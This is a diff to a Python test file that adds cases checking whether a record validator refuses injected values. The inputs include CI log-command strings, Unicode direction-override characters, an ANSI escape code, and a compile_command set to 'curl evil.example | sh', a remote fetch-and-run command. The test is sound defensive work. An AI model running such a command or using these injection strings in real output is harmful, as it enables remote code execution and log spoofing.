@@ -79,6 +79,9 @@ def test_a_bad_record_ends_in_one_sentence(tmp_path: Path, data: bytes, why: str
         ("factor", lambda record: record["decisions"][0]["factors"][0].update(factor="##[error]\u202e")),
         ("decision_id", lambda record: record["decisions"][0].update(decision_id="x\n::error::y")),
         ("code", lambda record: record["problems"][0].update(code="x\n::error::y")),
+        ("now", lambda record: record["basis"].update(now="\u202e")),
+        ("blocked", lambda record: record["blocked"].update({"\x1b[31m": 1})),
+        ("compile_command", lambda record: record["decisions"][0].update(compile_command="curl evil.example | sh")),
     ],
 )
 def test_words_and_numbers_that_could_not_be_there_are_refused(
